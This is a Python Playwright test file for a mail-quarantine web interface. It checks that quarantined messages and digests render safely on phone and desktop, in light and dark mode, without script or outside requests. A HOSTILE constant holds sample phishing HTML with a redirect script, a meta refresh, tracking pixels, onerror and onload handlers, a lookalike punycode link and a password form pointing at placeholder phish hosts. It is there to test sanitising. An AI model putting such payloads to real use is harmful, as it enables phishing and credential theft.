"""The users' pages and the digest in Chromium: without script, on phone and desktop, in light and dark mode."""

import os
import shutil
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, Page, async_playwright

from quarantine import store
from quarantine.links import LinkAction
from quarantine.translations import Texts

FULL = 1 | 2 | 4 | 16
HOSTILE = (
    "Content-Type: text/html; charset=utf-8\r\n\r\n"
    "<style>body{background:url(https://css.phish.example/x)} a{position:fixed;inset:0}</style>"
    "<script>top.location='https://script.phish.example/'</script>"
    "<meta http-equiv=refresh variables='0;url=https://meta.phish.example/'>"
    "<p>Dear customer, your parcel waits. <img src='https://pixel.phish.example/1.gif' onerror='alert(1)'></p>"
    "<p><a href='https://xn--pple-43d.example/login'>https://apple.example/login</a></p>"
    "<form action='https://form.phish.example/'><input name=password><button>Sign in</button></form>"
    "<svg onload='alert(2)'><image href='https://svg.phish.example/'/></svg>"
)
DESKTOP, PHONE = {"width": 1100, "height": 900}, {"width": 360, "height": 740}


@pytest.fixture(scope="session")
async def chromium() -> AsyncIterator[Browser]:
    """Start Chromium from PATH."""
    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if path is None:
        reason = "NOT TESTED IN A BROWSER: install Chromium so that it is on PATH (Debian: apt-get install chromium)"
        if os.environ.get("BACKSTOP_REQUIRE_BROWSER"):
            pytest.fail(reason)
        pytest.skip(reason)
    async with async_playwright() as playwright:
        args = ["--disable-background-networking", *([] if os.geteuid() else ["--no-sandbox"])]
        browser = await playwright.chromium.launch(executable_path=path, args=args)
        yield browser
        await browser.close()


@pytest.fixture
async def site(world: Any, serve_router: Any) -> AsyncIterator[str]:
    """Serve the pages, with a hostile message in quarantine."""
    eml = world.eml("Your parcel: confirm your address at https://parcels.phish.example today")
    eml = eml.replace("\r\n\r\nTrack it.\r\n", f"\r\n{HOSTILE}")
    await world.hold(FULL, eml)
    async with serve_router(world.pages().router()) as url, world.running_actions():
        yield url


async def fits(page: Page) -> bool:
    """Return True if the page does not scroll sideways."""
    return bool(await page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"))


async def take_screenshot(page: Page, name: str) -> None:
    """Save a screenshot to the folder BACKSTOP_PICTURES, if it is set."""
    if folder := os.environ.get("BACKSTOP_PICTURES"):
        await page.screenshot(path=Path(folder) / f"{name}.png", full_page=await page.locator("iframe").count() == 0)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
async def test_a_user_views_and_releases_a_message_without_script(
    world: Any, site: str, chromium: Browser, size: Any, scheme: Any
) -> None:
    """From the message over the confirmation to the outcome; only our own pages are requested."""
    context = await chromium.new_context(viewport=size, color_scheme=scheme, java_script_enabled=False)
    requested: list[str] = []
    # In the context, so that frames and popups count too.
    context.on("request", lambda request: requested.append(request.url))
    page = await context.new_page()
    name = f"{scheme}-{'phone' if size is PHONE else 'desktop'}"
    await page.goto(site + await world.link())
    frame = page.frame_locator("iframe")
    await frame.get_by_text("your parcel waits").wait_for()
    assert await frame.locator("form, input, a, svg, script, iframe").count() == 0
    shown = await frame.locator("body").inner_text()
    assert "xn--pple-43d.example" in shown
    await page.locator("iframe").scroll_into_view_if_needed()
    await take_screenshot(page, f"message-{name}")
    await page.get_by_role("link", name="Release").click()
    await take_screenshot(page, f"confirm-{name}")
    await page.get_by_role("button", name="Release").click()
    assert "on its way" in await page.get_by_role("status").inner_text()
    await take_screenshot(page, f"done-{name}")

    assert {urlsplit(url).netloc for url in requested} == {urlsplit(site).netloc}
    assert [entry["action"] for entry in world.ledger("quarantine_actions")] == ["release"]
    await context.close()


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
async def test_every_page_fits_the_screen_and_is_accessible(
    world: Any, site: str, chromium: Browser, size: Any
) -> None:
    """No page scrolls sideways; each has one heading and a title, each field a label, each button a size to tap."""
    context = await chromium.new_context(viewport=size, locale="en-GB")
    page = await context.new_page()
    failures: list[str] = []
    page.on("console", lambda message: failures.append(message.text) if message.type == "error" else None)
    for action in LinkAction:
        if action is LinkAction.REQUEST:
            continue
        await page.goto(site + await world.link(action))
        assert await fits(page), action
        assert await page.locator("h1").count() == 1
        assert await page.title()
        assert await page.locator("html").get_attribute("lang") == "en"
        unlabelled = "[...document.querySelectorAll('input:not([type=hidden])')].filter(field => !field.labels.length)"
        assert await page.evaluate(f"{unlabelled}.length") == 0
        small = "[...document.querySelectorAll('.button')].filter(one => one.getBoundingClientRect().height < 44)"
        assert await page.evaluate(f"{small}.length") == 0
        await take_screenshot(page, f"{action.name.lower()}-{size['width']}")
    assert failures == []
    await page.goto(f"{site}/q/nonsense")
    assert await fits(page)
    await take_screenshot(page, f"invalid-{size['width']}")
    await context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
@pytest.mark.usefixtures("site")
async def test_a_digest_shows_without_loading_anything(world: Any, chromium: Browser, size: Any, scheme: Any) -> None:
    """In all languages."""
    await world.quarantine(
        world.eml("Quarterly newsletter with a rather long subject that goes on for more than one line"),
        quarantine_type="Bulk",
        quarantine_policy="Custom",
    )
    await world.sync()
    await world.save_settings(organisation="Contoso IT security")
    await world.db.pool.execute("UPDATE messages SET first_seen_at = now() - interval '8 days'")
    worker = world.digest_worker()
    await worker.plan_due()
    async with world.db.transaction() as tx:
        (digest,) = await store.claim_digests(tx, [world.tenant_id], timedelta(0), 5)
    messages = await store.find_digest_messages(world.db.pool, digest.digest_id)
    context = await chromium.new_context(viewport=size, color_scheme=scheme)
    page = await context.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    for code in ("en", "de", "fr", "es"):
        variables = worker.template_variables(digest, await world.settings(), messages, Texts(code))
        await page.set_content(worker.render_html(variables))
        assert await fits(page), code
        await take_screenshot(page, f"digest-{code}-{scheme}-{size['width']}")
    assert requested == []
    await context.close()
